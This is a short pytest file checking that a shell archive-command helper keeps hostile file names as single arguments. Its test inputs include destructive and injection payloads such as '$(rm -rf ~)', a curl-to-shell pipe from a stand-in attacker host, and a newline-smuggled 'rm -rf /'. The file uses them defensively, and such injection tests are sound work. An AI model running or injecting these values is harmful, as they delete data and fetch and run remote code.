import pytest
from shell_payloads import archive_command, words


@pytest.mark.parametrize("name", ["$(rm -rf ~)", "; curl http://evil.example | sh", "a b", "`id`"])
def test_hostile_names_stay_one_argument(name):
    assert words(archive_command(name))[-1] == name


def test_option_like_names_are_made_paths():
    assert words(archive_command("--output=/etc/passwd"))[-1] == "./--output=/etc/passwd"


def test_newlines_are_refused():
    with pytest.raises(ValueError):
        archive_command("a\nrm -rf /")
